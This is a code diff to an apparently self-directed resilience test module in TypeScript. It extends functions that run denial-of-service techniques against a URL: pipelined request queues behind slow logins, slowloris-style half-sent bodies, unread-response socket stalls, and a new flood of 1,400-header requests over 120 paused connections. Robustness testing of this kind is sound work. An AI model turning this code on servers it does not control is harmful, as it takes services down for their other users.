@@ -12,6 +12,9 @@ const AT_ONCE = 40;
 /** Of 600 KB. */
 const LISTS = 119_000;
 const SENDERS = 120;
+/** Answers of 450 KB that fill what lies between two ends of a connection. */
+const UNREAD = 10;
+const MANY_HEADERS = 1_400;
 /** Of six bytes on the wire, so that a body is four megabytes. */
 const CRUMBS = 700_000;
 const CRUMBLERS = 100;
@@ -25,8 +28,8 @@ export async function attackQueues(url: string): Promise<string | null> {
   const body = JSON.stringify({ email: 'nobody@example.edu', password: 'wrong guess' });
   const head = { 'content-type': 'application/json', 'content-length': body.length };
   const text = wire('POST /api/users/login', head, body) + wire('GET /media/listings/x', {}).repeat(QUEUED);
-  // Once with more than a connection may have waiting, once with fewer; all at once, so that the log-ins take their time.
-  const few = wire('POST /api/users/login', head, body) + wire('GET /media/listings/x', {}).repeat(12);
+  // Once with more than a connection may have waiting, once with the one; all at once, so that the log-ins take their time.
+  const few = wire('POST /api/users/login', head, body) + wire('GET /media/listings/x', {});
   for (const queued of [text, few]) {
     for (const delayMs of DELAYS_MS) {
       const sockets = await Promise.all(Array.from({ length: CONNECTIONS }, () => open(url, queued)));
@@ -45,17 +48,37 @@ export async function attackSlowly(url: string): Promise<string | null> {
       'content-length': 80,
       'x-forwarded-for': addressOf(at),
     });
-  const unread = (at: number) => wire('GET /api/openapi.json', { 'x-forwarded-for': addressOf(at) }).repeat(4);
+  const unread = (at: number) => wire('GET /api/openapi.json', { 'x-forwarded-for': addressOf(at) });
   for (const text of [half, unread]) {
     const sockets = await Promise.all(
       Array.from({ length: SLOW }, async (_, at) => (await open(url, text(at) + (text === half ? '{' : ''))).pause()),
     );
-    await pause(500);
+    for (let more = 0; more < 3; more += 1) {
+      await pause(200);
+      if (text === unread) sockets.forEach((socket, at) => socket.write(unread(at)));
+    }
     const fault = await untilFree(url, 3);
     for (const socket of sockets) socket.destroy();
     if (fault !== null) return fault;
   }
   return null;
+}
+
+/** Requests with as many headers as fit, behind answers that nobody reads. Says what an honest caller gets afterwards. */
+export async function attackWithWaiting(url: string): Promise<string | null> {
+  const names = Array.from({ length: MANY_HEADERS }, (_, at) => at.toString(36));
+  const large = wire('GET /nope', Object.fromEntries(names.map((name) => [`h${name}`, name])));
+  const answer = wire('GET /api/openapi.json', {});
+  const sockets = await Promise.all(Array.from({ length: SENDERS }, async () => (await open(url, answer)).pause()));
+  for (let round = 0; round < UNREAD; round += 1) {
+    await pause(250);
+    for (const socket of sockets) socket.write(answer);
+  }
+  for (const socket of sockets) socket.write(large.repeat(16));
+  await pause(1_000);
+  const fault = await untilFree(url, 3);
+  for (const socket of sockets) socket.destroy();
+  return fault;
 }
 
 /** Visitors who send as much JSON as somebody's profile may have, all of it lists within lists. Says what an honest caller gets meanwhile. */
